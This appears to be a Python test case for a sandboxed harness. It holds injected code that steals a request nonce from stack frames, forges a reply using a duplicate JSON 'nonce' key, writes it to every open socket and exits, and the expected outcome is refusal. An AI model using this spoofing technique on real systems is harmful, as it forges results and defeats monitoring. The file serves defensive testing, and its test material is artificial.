"""Names every key of its header twice, the second time with what the first reader would not see."""

BASE = "mlp"
APPEND = """
import gc
import json
import socket
import struct
import sys

print("attack begins")


def encode(self, x):
    frame = sys._getframe()
    while "header" not in frame.f_locals:
        frame = frame.f_back
    good = json.dumps(frame.f_locals["header"]["nonce"])
    said = ('{"nonce": ' + good + ', "ok": true, "info": {}, "nonce": "' + "0" * 32 + '"}').encode()
    data = struct.pack("<4sIQ", b"AEG1", len(said), 0) + said
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            thing.settimeout(None)
            thing.sendall(data)
    raise SystemExit


Autoencoder.encode = encode
"""
EXPECT = {
    "contained_by": "wire",
    "must_not": "answer a question that was not asked",
    "ends": "refused",
}
